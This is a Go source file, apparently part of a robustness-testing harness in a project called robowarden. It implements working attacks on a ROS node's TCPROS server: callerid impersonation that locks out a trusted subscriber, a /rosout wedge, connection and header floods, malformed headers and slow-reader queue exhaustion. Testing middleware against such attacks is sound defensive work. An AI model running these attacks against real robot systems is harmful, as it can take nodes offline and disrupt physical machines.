package hostile

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"github.com/robowarden/robowarden/test/internal/wire"
)

// serverAttacks are aimed at the target's TCPROS server.
func serverAttacks() []Attack {
	return []Attack{
		{"tcpros-rosout-wedge", "stops a node that reports refused subscribers over /rosout for good", NeedNode | NeedServed, tcprosRosoutWedge},
		{"tcpros-callerid-lockout", "keeps the rightful subscriber of a topic out by coming first under its name", NeedNode | NeedServed | NeedTrusted, tcprosCalleridLockout},
		{"tcpros-connection-flood", "uses up the descriptors of a node with 300 connections", NeedNode | NeedServed, tcprosConnectionFlood},
		{"tcpros-udp-poke", "ends the UDPROS reader with one datagram of one byte", NeedNode | NeedServed, tcprosUDPPoke},
		{"tcpros-header-bomb", "makes the node set 16 MiB aside for each of 100 connections", NeedNode | NeedServed, tcprosHeaderBomb},
		{"tcpros-odd-headers", "sends connection headers that no library sends", NeedNode | NeedServed, tcprosOddHeaders},
		{"tcpros-slow-reader", "subscribes and never reads, so that the node's queues fill", NeedNode | NeedServed, tcprosSlowReader},
		{"tcpros-many-subscribers", "subscribes 50 times under 50 names", NeedNode | NeedServed, tcprosManySubscribers},
	}
}

// tcprosRosoutWedge asks for /rosout with a checksum that is wrong, and then touches the node again.
func tcprosRosoutWedge(ctx context.Context, t Target) error {
	addr, err := t.server(ctx, t.Node, t.ServedTopic)
	if err != nil {
		return err
	}
	header := wire.EncodeHeader("callerid", Name, "md5sum", "bad", "type", wire.Log.Name, "topic", "/rosout")
	for range 3 {
		c, err := net.DialTimeout("tcp", addr, time.Second)
		if err != nil {
			return fmt.Errorf("hostile: %w: %w", ErrRefused, err)
		}
		if _, err := c.Write(header); err != nil {
			return outcome(errors.Join(err, c.Close()))
		}
		sleep(ctx, 100*time.Millisecond)
		if err := c.Close(); err != nil {
			return err
		}
	}
	return nil
}

// tcprosCalleridLockout subscribes under the trusted name and stays.
func tcprosCalleridLockout(ctx context.Context, t Target) error {
	addr, err := t.server(ctx, t.Node, t.ServedTopic)
	if err != nil {
		return err
	}
	c, err := wire.DialTopic(ctx, addr, t.Trusted, t.ServedTopic, t.ServedType)
	if err != nil {
		return fmt.Errorf("hostile: %w: %w", ErrRefused, err)
	}
	defer func() { _ = c.Close() }()
	readFor(ctx, c, t.duration())
	return nil
}

// readFor reads whatever comes.
func readFor(ctx context.Context, c net.Conn, d time.Duration) {
	_ = c.SetReadDeadline(time.Now().Add(d))
	stop := context.AfterFunc(ctx, func() { _ = c.SetReadDeadline(time.Unix(1, 0)) })
	defer stop()
	_, _ = io.Copy(io.Discard, c)
}

func tcprosConnectionFlood(ctx context.Context, t Target) error {
	addr, err := t.server(ctx, t.Node, t.ServedTopic)
	if err != nil {
		return err
	}
	return hold(ctx, addr, t.duration(), make([]string, 300))
}

// tcprosUDPPoke sends a byte to the UDP ports around the TCP one: a node that serves UDPROS took them one after the
// other.
func tcprosUDPPoke(ctx context.Context, t Target) error {
	addr, err := t.server(ctx, t.Node, t.ServedTopic)
	if err != nil {
		return err
	}
	tcp, err := net.ResolveTCPAddr("tcp", addr)
	if err != nil {
		return err
	}
	for _, port := range []int{tcp.Port, tcp.Port + 1, tcp.Port + 2, tcp.Port - 1} {
		c, err := net.DialUDP("udp", nil, &net.UDPAddr{IP: tcp.IP, Port: port})
		if err != nil {
			return err
		}
		_, _ = c.Write([]byte{1}) // a port that nobody has answers with an error, which is no news
		if err := c.Close(); err != nil {
			return err
		}
	}
	return nil
}

// tcprosHeaderBomb announces headers of 16 MiB, and sends a megabyte of some.
func tcprosHeaderBomb(ctx context.Context, t Target) error {
	addr, err := t.server(ctx, t.Node, t.ServedTopic)
	if err != nil {
		return err
	}
	const size = 16 << 20
	start := binary.LittleEndian.AppendUint32(nil, size)
	start = binary.LittleEndian.AppendUint32(start, size-4)
	texts := make([]string, 100)
	for i := range texts {
		texts[i] = string(start)
		if i < 30 {
			texts[i] += strings.Repeat("x", 1<<20)
		}
	}
	return hold(ctx, addr, t.duration(), texts)
}

func tcprosOddHeaders(ctx context.Context, t Target) error {
	addr, err := t.server(ctx, t.Node, t.ServedTopic)
	if err != nil {
		return err
	}
	good := []string{"callerid", Name, "md5sum", "*", "type", "*", "topic", t.ServedTopic}
	field := func(s string) string { return string(binary.LittleEndian.AppendUint32(nil, uint32(len(s)))) + s }
	frame := func(s string) string { return field(s) }
	return hold(ctx, addr, 300*time.Millisecond, []string{
		"", "\x00\x00\x00\x00", "\xff\xff\xff\xff", "\xff\xff\xff\x7f", "\x01", "\x05\x00\x00\x00\x01",
		frame(field("no equals sign")), frame(field("=")), frame(field("")), frame("\xff\xff\xff\xff"),
		frame(field("topic=")), frame(field("topic=" + strings.Repeat("/x", 10000))),
		string(wire.EncodeHeader("callerid", "\xff\xfe\x00", "md5sum", "\n", "type", "", "topic", t.ServedTopic)),
		string(wire.EncodeHeader(append(good, "topic", "/rosout")...)),
		string(wire.EncodeHeader(append(good, "callerid", "", "", "", "tcp_nodelay", "maybe")...)),
		string(wire.EncodeHeader("callerid", Name, "md5sum", "*", "service", t.ServedTopic, "probe", "1", "persistent", "2")),
		string(wire.EncodeHeader("message_definition", strings.Repeat("float64 x\n", 5000))),
		// A subscriber that talks on after its header.
		string(wire.EncodeHeader(good...)) + strings.Repeat("and more", 1000),
		"GET / HTTP/1.1\r\n\r\n",
	})
}

func tcprosSlowReader(ctx context.Context, t Target) error {
	addr, err := t.server(ctx, t.Node, t.ServedTopic)
	if err != nil {
		return err
	}
	c, err := wire.DialTopic(ctx, addr, Name, t.ServedTopic, t.ServedType)
	if err != nil {
		return fmt.Errorf("hostile: %w: %w", ErrRefused, err)
	}
	defer func() { _ = c.Close() }()
	if tcp, ok := c.Conn.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(1) // the kernel rounds up to its least
	}
	sleep(ctx, t.duration())
	return nil
}

func tcprosManySubscribers(ctx context.Context, t Target) error {
	addr, err := t.server(ctx, t.Node, t.ServedTopic)
	if err != nil {
		return err
	}
	in := 0
	for i := range 50 {
		c, err := wire.DialTopic(ctx, addr, fmt.Sprintf("%s_%d", Name, i), t.ServedTopic, t.ServedType)
		if err != nil {
			continue
		}
		in++
		defer func() { _ = c.Close() }()
	}
	if in == 0 {
		return fmt.Errorf("hostile: none of 50 subscribers was let in: %w", ErrRefused)
	}
	t.logf("%d of 50 subscribers were let in", in)
	sleep(ctx, t.duration())
	return nil
}
